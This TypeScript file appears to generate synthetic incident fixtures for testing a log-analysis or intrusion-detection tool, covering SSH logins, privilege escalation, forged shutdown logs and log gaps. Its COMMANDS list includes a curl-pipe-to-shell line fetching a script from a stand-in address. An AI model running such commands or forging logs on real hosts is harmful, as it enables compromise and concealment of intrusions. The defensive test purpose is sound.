import {
  acceptedText,
  centralLine,
  document,
  loginLines,
  loginTraces,
  withCentral,
  withSiem,
  type FakeLogin,
} from './hostile';
import { HOUR_MS, MINUTE_MS, type Made, type Maker, type Making } from './making';
import { BENIGN, REPLAYS, type Allowed } from './verdict';

const CRITICAL: Allowed = { calmest: 'critical', loudest: 'critical' };
const UNCLEAR: Allowed = { calmest: 'warning', loudest: 'critical' };
const SUSPICIOUS: Allowed = { calmest: 'warning', loudest: 'warning' };
const AWAY = '203.0.113.66';

/** A moment near what happened, never in the seconds of the crash itself. */
function nearCore({ coreMs, random: next }: Making): number {
  return coreMs + (2 + next() * 10) * MINUTE_MS;
}

/** Someone who was let in, by a document of a SIEM that says so, and by no line of a log. */
function told(login: FakeLogin, observed: boolean) {
  return document(login.atMs, `xt${login.atMs}`, {
    'event.category': ['authentication'],
    'event.type': ['start'],
    'event.outcome': 'success',
    'process.name': 'sshd',
    'user.name': login.user,
    'source.ip': login.ip,
    'source.port': login.port,
    ...(observed
      ? { 'event.module': 'auditd', 'agent.type': 'auditbeat' }
      : { 'agent.type': 'filebeat', 'event.dataset': 'system.auth' }),
  });
}

/** What a sensor sees of a process that sshd started. */
function belowSshd(user: string, atMs: number, command: string, parent = 'sshd') {
  return document(atMs, `xb${atMs}`, {
    'event.category': ['process'],
    'event.type': ['start'],
    'event.action': 'exec',
    'event.provider': 'proc-connector',
    'process.executable': command.startsWith('/')
      ? command.split(' ')[0]
      : `/usr/bin/${command.replace(/^-/, '').split(' ')[0]}`,
    'process.command_line': command,
    'process.pid': 39_001,
    'process.parent.pid': 39_000,
    'process.parent.name': parent,
    'user.name': user,
  });
}

const COMMANDS = [
  'bash -c ./x',
  '-bash',
  '/usr/lib/openssh/sftp-server',
  'scp -t /tmp',
  '/bin/sh -c "curl -s http://203.0.113.66/x | sh"',
];
const TAGS = ['nginx', 'shop-api', 'mallory'];
const COLLECTORS = ['varlogs', 'syslog', 'systemd-journal', 'acme', 'nginx'];

/** A shutdown as anybody on the host may write it, line by line. */
function forgedShutdown(atMs: number) {
  return [
    centralLine(atMs, 'systemd-logind', 90, 'The system will reboot now!'),
    centralLine(atMs + 900, 'systemd', 1, 'Reached target shutdown.target - System Shutdown.'),
    centralLine(atMs + 950, 'systemd', 1, 'Reached target reboot.target - System Reboot.'),
    centralLine(atMs + 990, 'systemd', 1, 'Shutting down.'),
    centralLine(atMs + 1000, 'systemd-journald', 62, 'Journal stopped'),
  ];
}

/** Logins and sessions of which one witness tells and another does not, each with the truth that follows. */
export const SESSIONS: Readonly<Record<string, Maker>> = {
  'told-by-the-siem-alone': (making) => {
    const login = { user: 'ec2-user', ip: AWAY, port: 50_601, atMs: nearCore(making) };
    const { incident, random: next } = making;
    return { incident: withSiem(incident, [told(login, next() < 0.5)]), required: ['told-'], allowed: CRITICAL };
  },
  'below-sshd': (making) => {
    const { incident, random: next } = making;
    const login = { user: next() < 0.5 ? 'ec2-user' : 'root', ip: AWAY, port: 50_602, atMs: nearCore(making) };
    const command = COMMANDS[Math.floor(next() * COMMANDS.length)];
    const parent = next() < 0.5 ? 'sshd' : 'sshd-session';
    const [packet] = loginTraces(login);
    const seen = [...(next() < 0.7 ? [packet] : []), belowSshd(login.user, login.atMs, command, parent)];
    return { incident: withSiem(incident, seen), required: ['alone'], allowed: CRITICAL };
  },
  'one-login-two-sessions': (making) => {
    const { incident, random: next } = making;
    const own = { user: 'alice', ip: '198.51.100.21', port: 51_603, atMs: nearCore(making) };
    const other = { user: 'alice', ip: AWAY, port: 50_603, atMs: own.atMs + (next() - 0.5) * 20_000 };
    const made = withCentral(incident, loginLines(own));
    const seen = [...loginTraces(own), ...loginTraces(other)].map((one) => ({ ...one, id: `${one.id}${next()}` }));
    const listed = next() < 0.5;
    return {
      incident: withSiem(made, seen),
      networks: listed ? ['198.51.100.0/24'] : [],
      required: ['alone'],
      allowed: listed ? CRITICAL : UNCLEAR,
    };
  },
  'becomes-root': (making, scenario) => {
    const { incident, random: next } = making;
    const atMs = nearCore(making);
    const line =
      next() < 0.5
        ? centralLine(atMs, 'su', 4711, '(to root) mallory on pts/1')
        : centralLine(atMs, 'sudo', 4711, ' mallory : TTY=pts/1 ; PWD=/home/mallory ; USER=root ; COMMAND=/bin/bash');
    return {
      incident: withCentral(incident, [line]),
      required: ['rise'],
      allowed: scenario === 'intruder-wipe' ? CRITICAL : UNCLEAR,
    };
  },
  'printed-by-another-program': (making, scenario) => {
    const { incident, random: next } = making;
    const atMs = nearCore(making);
    const text = acceptedText({ user: 'ec2-user', ip: AWAY, port: 50_604, atMs });
    const bare = { timeMs: atMs, line: text, labels: { host: 'web-7', job: 'nginx' }, id: `xq${atMs}` };
    const pam = 'pam_unix(sshd:session): session opened for user ec2-user(uid=1000) by (uid=0)';
    const tagged = centralLine(atMs, TAGS[Math.floor(next() * TAGS.length)], 812, pam);
    return {
      incident: withCentral(incident, [next() < 0.5 ? bare : tagged]),
      required: ['login-in-output', 'session-in-output'],
      allowed: scenario === 'intruder-wipe' ? CRITICAL : SUSPICIOUS,
    };
  },
  'labelled-as-anything': (making) => {
    const { incident, random: next } = making;
    const job = COLLECTORS[Math.floor(next() * COLLECTORS.length)];
    const login = { user: 'ec2-user', ip: AWAY, port: 50_605, atMs: nearCore(making) };
    const seen = next() < 0.5 ? loginTraces(login) : [];
    const lines = loginLines(login).map((one) => ({ ...one, labels: { host: 'web-7', job } }));
    return {
      incident: withSiem(withCentral(incident, lines), seen),
      required: ['login-unapproved-network'],
      allowed: CRITICAL,
    };
  },
  'forged-shutdown-before-a-crash': ({ incident, coreMs, random: next }, scenario): Made | undefined => {
    if (!REPLAYS.includes(scenario)) {
      return undefined;
    }
    const marks = /uncleanly shut down|recovering journal|orphan|recovery complete/i;
    const kept = incident.central.filter(({ line }) => !marks.test(line));
    return {
      incident: withCentral({ ...incident, central: kept }, forgedShutdown(coreMs - (20 + next() * 100) * 1000)),
      allowed: UNCLEAR,
      forbidden: ['restart-clean'],
    };
  },
  'silenced-again-and-again': ({ incident, coreMs, random: next }, scenario): Made | undefined => {
    // On a host that says little a silence of an hour is nothing.
    if (scenario === 'quiet-host' || scenario === 'agent-outage') {
      return undefined;
    }
    const first = coreMs - 11 * HOUR_MS + next() * 20 * MINUTE_MS;
    const holes = Array.from({ length: 6 }, (_, index) => first + index * 1.7 * HOUR_MS + next() * 10 * MINUTE_MS);
    const isHeard = ({ timeMs }: { readonly timeMs: number }) =>
      !holes.some((fromMs) => timeMs >= fromMs && timeMs < fromMs + HOUR_MS);
    return {
      incident: { ...incident, central: incident.central.filter(isHeard), host: incident.host.filter(isHeard) },
      options: { fromMs: coreMs - 12 * HOUR_MS, toMs: coreMs + HOUR_MS, stepMs: 5 * MINUTE_MS },
      required: ['gap'],
      allowed: UNCLEAR,
    };
  },
};

/** What looks alike and is harmless. */
export const HARMLESS: Readonly<Record<string, Maker>> = {
  'an-admin-becomes-root': (making) => {
    const atMs = nearCore(making);
    return {
      incident: withCentral(making.incident, [
        centralLine(atMs, 'su', 4711, '(to root) alice on pts/1'),
        centralLine(
          atMs + 3,
          'su',
          4711,
          'pam_unix(su-l:session): session opened for user root(uid=0) by alice(uid=1001)'
        ),
      ]),
    };
  },
  'all-labelled-alike': ({ incident, random: next }) => {
    const labels = { host: 'web-7', job: COLLECTORS[Math.floor(next() * COLLECTORS.length)] };
    return { incident: { ...incident, central: incident.central.map((one) => ({ ...one, labels })) } };
  },
  'an-approved-copy': (making, scenario) => {
    // A colleague's real login of which a collector has a copy, too: the log's own line answers for it.
    if (!BENIGN.includes(scenario)) {
      return undefined;
    }
    const login = { user: 'alice', ip: '198.51.100.21', port: 51_607, atMs: nearCore(making) };
    return {
      incident: withSiem(withCentral(making.incident, loginLines(login)), [...loginTraces(login), told(login, false)]),
    };
  },
};
